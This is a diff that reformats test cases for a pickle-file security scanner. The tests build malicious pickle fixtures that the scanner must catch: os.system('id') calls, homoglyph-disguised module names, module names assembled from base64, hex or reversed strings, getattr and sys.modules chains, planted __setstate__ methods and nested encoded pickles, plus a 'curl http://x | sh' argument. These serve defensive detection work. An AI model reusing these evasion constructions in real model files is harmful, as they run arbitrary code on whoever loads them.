@@ -37,11 +37,14 @@ describe("callables", () => {
   });
 
   it("counts a call whose result is thrown away", async () => {
-    expect(await rulesOf(pickle(proto(4), p.mark, global("os", "system"), text("id"), p.obj, p.pop, p.none, stop))).toContain("pickle/unsafe-call");
+    expect(
+      await rulesOf(pickle(proto(4), p.mark, global("os", "system"), text("id"), p.obj, p.pop, p.none, stop)),
+    ).toContain("pickle/unsafe-call");
   });
 
   it("renames Python 2 modules below protocol 3 and not above", async () => {
-    const old = (version: number) => pickle(proto(version), global("commands", "getoutput"), text("id"), tuple1, reduce, stop);
+    const old = (version: number) =>
+      pickle(proto(version), global("commands", "getoutput"), text("id"), tuple1, reduce, stop);
     expect((await findingsOf(old(2)))[0]?.message).toContain("subprocess.getoutput");
     expect((await findingsOf(old(4)))[0]?.message).toContain("commands.getoutput");
   });
@@ -70,7 +73,8 @@ describe("callables", () => {
   });
 
   it("grades unknown callables by where they come from and what they are given", async () => {
-    const severity = async (module: string, name: string, ...args: p.Piece[]) => (await findingsOf(call(global(module, name), ...args)))[0]?.severity;
+    const severity = async (module: string, name: string, ...args: p.Piece[]) =>
+      (await findingsOf(call(global(module, name), ...args)))[0]?.severity;
     expect(await severity("somewhere.else", "make", int(1))).toBe("medium");
     expect(await severity("somewhere.else", "make", text("https://example.test/x"))).toBe("high");
     expect(await severity("somewhere.else", "make", text("curl http://x | sh"))).toBe("critical");
@@ -92,7 +96,9 @@ describe("names", () => {
   });
 
   it("takes the worse of a listed module and what a dotted name reaches through it", async () => {
-    expect((await findingsOf(call(global("torch.serialization", "os.system"), text("id"))))[0]?.severity).toBe("critical");
+    expect((await findingsOf(call(global("torch.serialization", "os.system"), text("id"))))[0]?.severity).toBe(
+      "critical",
+    );
   });
 
   it("tells a walk through double underscores even from a harmless module", async () => {
@@ -100,21 +106,62 @@ describe("names", () => {
     expect(found.map(({ rule }) => rule)).toContain("pickle/attribute-walk");
   });
 
-  it.each([["posix ", "system"], ["po\u0455ix", "system"], ["ｏｓ", "system"], ["OS", "system"]])("tells %j.%s as disguised", async (module, name) => {
+  it.each([
+    ["posix ", "system"],
+    ["po\u0455ix", "system"],
+    ["ｏｓ", "system"],
+    ["OS", "system"],
+  ])("tells %j.%s as disguised", async (module, name) => {
     expect(await rulesOf(pickle(proto(4), global(module, name), stop))).toContain("pickle/disguised-name");
   });
 
   it("accepts names of other scripts that look like nothing dangerous", async () => {
-    expect(await rulesOf(pickle(proto(4), global("__main__", "Модель"), emptyTuple, p.newobj, stop))).toEqual(["pickle/unknown-class"]);
+    expect(await rulesOf(pickle(proto(4), global("__main__", "Модель"), emptyTuple, p.newobj, stop))).toEqual([
+      "pickle/unknown-class",
+    ]);
   });
 
   it.each([
-    ["str.join", pickle(proto(4), global("builtins", "str.join"), text(""), p.mark, text("o"), text("s"), p.tuple, tuple2, reduce)],
+    [
+      "str.join",
+      pickle(proto(4), global("builtins", "str.join"), text(""), p.mark, text("o"), text("s"), p.tuple, tuple2, reduce),
+    ],
     ["bytes.decode", pickle(proto(4), global("builtins", "bytes.decode"), bytes("os"), tuple1, reduce)],
     ["codecs hex", pickle(proto(4), global("codecs", "decode"), text("6f73"), text("hex"), tuple2, reduce)],
     ["base64", pickle(proto(4), global("base64", "b64decode"), text("b3M="), tuple1, reduce)],
-    ["getattr of a constant", pickle(proto(4), global("builtins", "getattr"), text(""), text("join"), tuple2, reduce, p.mark, text("o"), text("s"), p.op("LIST"), tuple1, reduce)],
-    ["reversed slice", pickle(proto(4), global("operator", "getitem"), text("so"), global("builtins", "slice"), p.none, p.none, int(-1), tuple3, reduce, tuple2, reduce)],
+    [
+      "getattr of a constant",
+      pickle(
+        proto(4),
+        global("builtins", "getattr"),
+        text(""),
+        text("join"),
+        tuple2,
+        reduce,
+        p.mark,
+        text("o"),
+        text("s"),
+        p.op("LIST"),
+        tuple1,
+        reduce,
+      ),
+    ],
+    [
+      "reversed slice",
+      pickle(
+        proto(4),
+        global("operator", "getitem"),
+        text("so"),
+        global("builtins", "slice"),
+        p.none,
+        p.none,
+        int(-1),
+        tuple3,
+        reduce,
+        tuple2,
+        reduce,
+      ),
+    ],
   ])("computes a module name made by %s", async (_, head) => {
     const found = await findingsOf(pickle(head, text("system"), p.stackGlobal, text("id"), tuple1, reduce, stop));
     expect(found.map(({ message }) => message).join("\n")).toContain('os.system("id")');
@@ -122,15 +169,71 @@ describe("names", () => {
   });
 
   it("tells a name that cannot be computed", async () => {
-    const found = await findingsOf(pickle(proto(4), global("secrets", "token_hex"), int(2), tuple1, reduce, text("system"), p.stackGlobal, stop));
+    const found = await findingsOf(
+      pickle(proto(4), global("secrets", "token_hex"), int(2), tuple1, reduce, text("system"), p.stackGlobal, stop),
+    );
     expect(found.find(({ rule }) => rule === "pickle/computed-name")?.severity).toBe("critical");
   });
 
   it.each([
-    ["getattr", pickle(global("builtins", "getattr"), global("importlib", "import_module"), text("os"), tuple1, reduce, text("system"), tuple2, reduce)],
-    ["vars", pickle(global("operator", "getitem"), global("builtins", "vars"), global("builtins", "__import__"), text("os"), tuple1, reduce, tuple1, reduce, text("system"), tuple2, reduce)],
-    ["attrgetter", pickle(global("operator", "attrgetter"), text("system"), tuple1, reduce, global("builtins", "__import__"), text("os"), tuple1, reduce, tuple1, reduce)],
-    ["sys.modules", pickle(global("builtins", "getattr"), global("operator", "getitem"), global("sys", "modules"), text("os"), tuple2, reduce, text("system"), tuple2, reduce)],
+    [
+      "getattr",
+      pickle(
+        global("builtins", "getattr"),
+        global("importlib", "import_module"),
+        text("os"),
+        tuple1,
+        reduce,
+        text("system"),
+        tuple2,
+        reduce,
+      ),
+    ],
+    [
+      "vars",
+      pickle(
+        global("operator", "getitem"),
+        global("builtins", "vars"),
+        global("builtins", "__import__"),
+        text("os"),
+        tuple1,
+        reduce,
+        tuple1,
+        reduce,
+        text("system"),
+        tuple2,
+        reduce,
+      ),
+    ],
+    [
+      "attrgetter",
+      pickle(
+        global("operator", "attrgetter"),
+        text("system"),
+        tuple1,
+        reduce,
+        global("builtins", "__import__"),
+        text("os"),
+        tuple1,
+        reduce,
+        tuple1,
+        reduce,
+      ),
+    ],
+    [
+      "sys.modules",
+      pickle(
+        global("builtins", "getattr"),
+        global("operator", "getitem"),
+        global("sys", "modules"),
+        text("os"),
+        tuple2,
+        reduce,
+        text("system"),
+        tuple2,
+        reduce,
+      ),
+    ],
   ])("resolves a function reached by %s", async (_, chain) => {
     const found = await findingsOf(pickle(proto(4), chain, text("id"), tuple1, reduce, stop));
     expect(found.map(({ message }) => message).join("\n")).toContain('os.system("id")');
@@ -139,19 +242,36 @@ describe("names", () => {
 
 describe("callables judged by their arguments", () => {
   it("lets getattr fetch an enum's member and a class's method", async () => {
-    const member = pickle(proto(4), global("builtins", "getattr"), global("transformers.trainer_utils", "IntervalStrategy"), text("NO"), tuple2, reduce, stop);
+    const member = pickle(
+      proto(4),
+      global("builtins", "getattr"),
+      global("transformers.trainer_utils", "IntervalStrategy"),
+      text("NO"),
+      tuple2,
+      reduce,
+      stop,
+    );
     expect(await findingsOf(member)).toEqual([]);
   });
 
   it("tells getattr of a dunder, and of a name that is no constant", async () => {
-    const dunder = pickle(proto(4), global("builtins", "getattr"), global("collections", "OrderedDict"), text("__init_subclass__"), tuple2, reduce, stop);
+    const dunder = pickle(
+      proto(4),
+      global("builtins", "getattr"),
+      global("collections", "OrderedDict"),
+      text("__init_subclass__"),
+      tuple2,
+      reduce,
+      stop,
+    );
     expect(await rulesOf(dunder)).toContain("pickle/argument");
     const computed = pickle(proto(4), global("builtins", "getattr"), int(1), p.none, tuple2, reduce, stop);
     expect(await rulesOf(computed)).toContain("pickle/argument");
   });
 
   it("lets _codecs.encode write latin-1 and nothing else", async () => {
-    const encoded = (name: string) => pickle(proto(2), global("_codecs", "encode"), text("abc"), text(name), tuple2, reduce, stop);
+    const encoded = (name: string) =>
+      pickle(proto(2), global("_codecs", "encode"), text("abc"), text(name), tuple2, reduce, stop);
     expect(await findingsOf(encoded("latin1"))).toEqual([]);
     expect(await rulesOf(encoded("rot13"))).toContain("pickle/argument");
   });
@@ -164,13 +284,23 @@ describe("callables judged by their arguments", () => {
 
   it("accepts copyreg._reconstructor of ordinary bases only", async () => {
     const made = (module: string, name: string) =>
-      pickle(proto(2), global("copy_reg", "_reconstructor"), global("sklearn.x", "Model"), global(module, name), p.none, tuple3, reduce, stop);
+      pickle(
+        proto(2),
+        global("copy_reg", "_reconstructor"),
+        global("sklearn.x", "Model"),
+        global(module, name),
+        p.none,
+        tuple3,
+        reduce,
+        stop,
+      );
     expect(await findingsOf(made("__builtin__", "object"))).toEqual([]);
     expect(await rulesOf(made("ctypes", "CDLL"))).toContain("pickle/unsafe-import");
   });
 
   it("accepts numpy ufuncs and refuses other modules in their reconstructor", async () => {
-    const ufunc = (module: string) => pickle(proto(4), global("numpy.core", "_ufunc_reconstruct"), text(module), text("add"), tuple2, reduce, stop);
+    const ufunc = (module: string) =>
+      pickle(proto(4), global("numpy.core", "_ufunc_reconstruct"), text(module), text("add"), tuple2, reduce, stop);
     expect(await findingsOf(ufunc("numpy.core._multiarray_umath"))).toEqual([]);
     expect(await rulesOf(ufunc("os"))).toContain("pickle/argument");
   });
@@ -193,12 +323,34 @@ describe("state and items", () => {
 
   it("tells a special method that hides among hundreds of attributes", async () => {
     const filler = Array.from({ length: 200 }, (_, i) => pickle(text(`a${i}`), int(i)));
-    const hidden = pickle(proto(4), namespace, p.emptyDict, p.mark, ...filler, text("__setstate__"), global("builtins", "print"), p.setitems, p.build, stop);
+    const hidden = pickle(
+      proto(4),
+      namespace,
+      p.emptyDict,
+      p.mark,
+      ...filler,
+      text("__setstate__"),
+      global("builtins", "print"),
+      p.setitems,
+      p.build,
+      stop,
+    );
     expect(await rulesOf(hidden)).toContain("pickle/planted-method");
   });
 
   it("tells BUILD on an imported class, function or module", async () => {
-    const overwrite = pickle(proto(4), global("torch", "nn"), p.none, p.emptyDict, text("save"), global("builtins", "print"), p.setitem, tuple2, p.build, stop);
+    const overwrite = pickle(
+      proto(4),
+      global("torch", "nn"),
+      p.none,
+      p.emptyDict,
+      text("save"),
+      global("builtins", "print"),
+      p.setitem,
+      tuple2,
+      p.build,
+      stop,
+    );
     expect((await findingsOf(overwrite))[0]).toMatchObject({ rule: "pickle/state-overwrite", severity: "critical" });
   });
 
@@ -232,14 +384,22 @@ describe("state and items", () => {
 describe("constants", () => {
   it("looks into bytes that are a pickle, and into base64 and hex of one", async () => {
     const inner = p.osSystem("id", 2);
-    for (const constant of [bytes(inner), text(Buffer.from(inner).toString("base64")), text(Buffer.from(inner).toString("hex"))]) {
+    for (const constant of [
+      bytes(inner),
+      text(Buffer.from(inner).toString("base64")),
+      text(Buffer.from(inner).toString("hex")),
+    ]) {
       const found = await findingsOf(pickle(proto(4), constant, stop));
-      expect(found.map(({ rule }) => rule)).toEqual(expect.arrayContaining(["pickle/unsafe-call", "pickle/nested-pickle"]));
+      expect(found.map(({ rule }) => rule)).toEqual(
+        expect.arrayContaining(["pickle/unsafe-call", "pickle/nested-pickle"]),
+      );
     }
   });
 
   it("says nothing about a clean pickle inside a pickle", async () => {
-    expect(await findingsOf(pickle(proto(4), bytes(pickle(proto(4), text("hello world"), p.memoize, stop)), stop))).toEqual([]);
+    expect(
+      await findingsOf(pickle(proto(4), bytes(pickle(proto(4), text("hello world"), p.memoize, stop)), stop)),
+    ).toEqual([]);
   });
 
   it("says nothing about texts that talk about pickles", async () => {
@@ -255,6 +415,8 @@ describe("constants", () => {
 
 it("tells an import of a name that nobody knows, and not of one of a known package", async () => {
   const imported = (module: string, name: string) => pickle(proto(4), global(module, name), stop);
-  expect(await findingsOf(imported("somewhere", "thing"))).toMatchObject([{ rule: "pickle/unknown-import", severity: "low" }]);
+  expect(await findingsOf(imported("somewhere", "thing"))).toMatchObject([
+    { rule: "pickle/unknown-import", severity: "low" },
+  ]);
   expect(await findingsOf(imported("torch.nn.functional", "conv2d"))).toEqual([]);
 });
